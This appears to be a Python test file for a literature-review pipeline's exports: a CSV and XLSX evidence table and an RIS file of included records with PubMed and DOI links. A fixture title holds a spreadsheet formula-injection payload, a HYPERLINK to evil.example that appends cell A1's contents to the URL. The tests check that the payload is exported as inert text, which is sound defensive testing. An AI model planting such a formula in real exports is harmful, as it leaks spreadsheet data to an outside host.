"""Review-ready exports: the evidence table as CSV and XLSX a spreadsheet opens safely, and the
included records as RIS a reference manager imports, with links."""

from __future__ import annotations

import csv
import re
import zipfile
from xml.etree import ElementTree

from pipeline.warehouse import db
from pipeline.warehouse.exports import EVIDENCE_COLUMNS, export_evidence
from tests.marts.warehouse import add_run, add_study, at, query

INJECTED = '=HYPERLINK("http://evil.example/?leak="&A1, "Click for the full text")'
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def warehouse(settings):
    con = db.connect(settings)
    add_run(con, "run-1", at(1))
    add_study(con, "pmid:1", first_author="Ilfeld B", year=2023, responder_pct=62.0,
              responder_threshold_pct=50.0)
    add_study(con, "pmid:2", design="systematic_review", sample_size=None)
    add_study(con, "pmid:3", relevant=False)
    con.execute("UPDATE core.articles SET title = ? WHERE article_id = 'pmid:1'", [INJECTED])
    return con


def test_evidence_table_csv_and_xlsx_keep_formula_titles_as_text(settings, tmp_path):
    con = warehouse(settings)
    paths = export_evidence(con, tmp_path)
    expected = query(con, "SELECT * FROM marts.evidence_table")
    con.close()
    assert [p.name for p in paths] == ["evidence_table.csv", "evidence_table.xlsx", "included.ris"]

    with open(tmp_path / "evidence_table.csv", newline="", encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    assert [r["study"] for r in rows] == [e["study"] for e in expected] == ["Ilfeld B 2023"]
    assert rows[0]["title"] == "'" + INJECTED           # a spreadsheet shows it, never runs it
    assert rows[0]["pubmed_url"] == "https://pubmed.ncbi.nlm.nih.gov/1/"
    assert rows[0]["patients"] == "40" and rows[0]["responder_pct"] == "62.0"

    with zipfile.ZipFile(tmp_path / "evidence_table.xlsx") as book:
        assert book.testzip() is None
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    assert sheet.findall(f".//{MAIN}f") == []            # no formula anywhere
    cells = {c.get("r"): c for c in sheet.iter(f"{MAIN}c")}
    title = cells[f"{chr(65 + EVIDENCE_COLUMNS.index('title'))}2"]
    assert title.get("t") == "inlineStr" and title.find(f"{MAIN}is/{MAIN}t").text == INJECTED
    patients = cells[f"{chr(65 + EVIDENCE_COLUMNS.index('patients'))}2"]
    assert patients.get("t") is None and patients.find(f"{MAIN}v").text == "40"   # a number
    # PubMed and DOI cells are clickable links (sheet relationships, not formulas).
    link = sheet.find(f".//{MAIN}hyperlink[@ref='{chr(65 + EVIDENCE_COLUMNS.index('pubmed_url'))}2']")
    with zipfile.ZipFile(tmp_path / "evidence_table.xlsx") as book:
        rels = ElementTree.fromstring(book.read("xl/worksheets/_rels/sheet1.xml.rels"))
    targets = {r.get("Id"): r.get("Target") for r in rels}
    assert targets[link.get(f"{{{RELS}}}id")] == "https://pubmed.ncbi.nlm.nih.gov/1/"


def test_included_records_as_ris_with_links(settings, tmp_path):
    con = warehouse(settings)
    export_evidence(con, tmp_path)
    con.close()
    ris = (tmp_path / "included.ris").read_text(encoding="utf-8")
    records = [r for r in ris.split("ER  - ") if r.strip()]
    assert len(records) == 2                           # the two relevant records, not the third
    first = dict(re.findall(r"^(TI|PY|DO|AN)  - (.*?)\r?$", records[0], re.M))
    assert first["DO"] == "10.5555/2" and first["AN"] == "PMID:2"   # the review: design rank 1
    assert "UR  - https://pubmed.ncbi.nlm.nih.gov/1/" in records[1]
    assert "UR  - https://doi.org/10.5555/1" in records[1]
    assert "AU  - Ilfeld B" in records[1] and "TY  - JOUR" in records[1]
